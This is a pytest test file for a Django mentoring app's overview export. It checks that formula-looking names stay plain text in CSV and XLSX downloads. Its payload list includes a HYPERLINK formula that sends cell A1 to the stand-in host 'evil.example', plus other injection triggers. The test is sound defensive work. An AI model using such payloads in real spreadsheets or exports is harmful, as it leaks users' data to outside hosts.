"""The mentoring overview download: formula-looking text never runs as a formula."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests.mentoring.factories import (
    MatchingRoundFactory,
    MentorFactory,
    MentorProfileFactory,
)

pytestmark = pytest.mark.django_db

# What staff or a mentor might type that a spreadsheet would run.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
    "+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
]


def test_the_mentoring_overview_keeps_formula_looking_names_as_text(
    client, staff, django_assert_max_num_queries
):
    for text in FORMULAS:
        MatchingRoundFactory(name=text)
    mentor = MentorFactory(first_name="@SUM(1)", last_name="Ortiz")
    MentorProfileFactory(user=mentor, organization="-2+3 Housing Trust", capacity=2)
    client.force_login(staff)
    url = reverse("mentoring_overview")

    with django_assert_max_num_queries(11):
        response = client.get(url, {"export": "csv"})

    text = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    rounds = [r for r in rows if r["Section"] == "Matching rounds"]
    assert sorted(r["Item"] for r in rounds) == sorted("'" + t for t in FORMULAS)
    assert {r["Number"] for r in rounds} == {"0"}
    assert {r["Detail"] for r in rounds} == {"Not run yet; 0 offered"}
    capacity = next(r for r in rows if r["Section"] == "Mentor capacity")
    assert capacity["Item"] == "'@SUM(1) Ortiz (-2+3 Housing Trust)"
    assert capacity["Detail"] == "0 of 2 places taken"
    assert next(r for r in rows if r["Item"] == "Open requests")["Number"] == "0"

    workbook = load_workbook(
        io.BytesIO(b"".join(client.get(url, {"export": "xlsx"}).streaming_content))
    )
    header, *data = workbook.active.iter_rows()
    names = [cell.value for cell in header]
    cells = [dict(zip(names, row, strict=True)) for row in data]
    round_items = [r["Item"] for r in cells if r["Section"].value == "Matching rounds"]
    assert {c.data_type for c in round_items} == {"s"}
    # XML reads a bare carriage return back as a line feed.
    assert sorted(c.value for c in round_items) == sorted(
        t.replace("\r", "\n") for t in FORMULAS
    )
